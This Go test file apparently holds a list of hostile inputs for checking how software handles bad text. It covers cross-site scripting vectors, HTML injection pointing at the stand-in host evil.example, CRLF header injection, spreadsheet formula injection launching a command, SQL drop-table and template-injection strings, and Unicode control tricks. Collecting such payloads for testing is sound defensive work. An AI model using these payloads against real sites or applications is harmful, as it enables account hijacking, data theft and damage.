//go:build proof

package main

import "strings"

// payloads are texts that break careless pages, logs, headers, addresses,
// queries and spreadsheets, one or two of each kind.
var payloads = []string{
	`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`,
	`"><img src="https://evil.example/x.png">`,
	`" autofocus onfocus="alert(1)`, `' autofocus onfocus='alert(1)`, "` onmouseover=alert(1) x=`",
	`<svg/onload=alert(1)>`,
	`<svg><script href="data:text/javascript,alert(1)"/></svg>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<iframe src="https://evil.example/"></iframe>`,
	`<object data="javascript:alert(1)">`, `<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`, `<style>*{display:none}</style>`,
	`<form action="https://evil.example/"><button>Save`,
	`<div hx-post="/signout" hx-trigger="load"></div>`, `" hx-post="/signout" hx-trigger="load`,
	`<a href="javascript:alert(1)" ping="https://evil.example/">click</a>`,
	`javascript:alert(1)`, `data:text/html,<script>alert(1)</script>`, `//evil.example/%2e%2e`, `../../../../signout`,
	`</textarea><script>alert(1)</script>`,
	`</title></head><body onload=alert(1)>`, `</td></tr></table></main></body></html>`, `<!--`, `]]><![CDATA[`,
	`{{7*7}} ${7*7} <%= 7 %> #{7}`,
	"\u202egnitirw\u202c \u2066x\u2069 \u200e", "zero\u200bwidth\u200d\u2060\u00ad", "a\x00b\x07\x1b[31mred",
	"line\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
	strings.Repeat("W", 5000), strings.Repeat("wide ", 1000), strings.Repeat("Z\u0337\u0322\u0311\u0300", 60),
	"\ufeff\u2028\u2029",
	`=HYPERLINK("https://evil.example/","click")`, `@SUM(1+1)*cmd|' /C calc'!A0`, "+1-1\t;", `'; drop table run; --`,
	`&lt;script&gt;alert(1)&lt;/script&gt; &#60; &amp;`,
	`<template><style>*{display:none}</style>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`%3Cscript%3Ealert(1)%3C/script%3E%0d%0aX-Injected: 1`,
	`<x onpointerrawupdate=alert(1) style="position:fixed;inset:0">`, `\u003cscript\u003ealert(1)\u003c/script\u003e`,
}
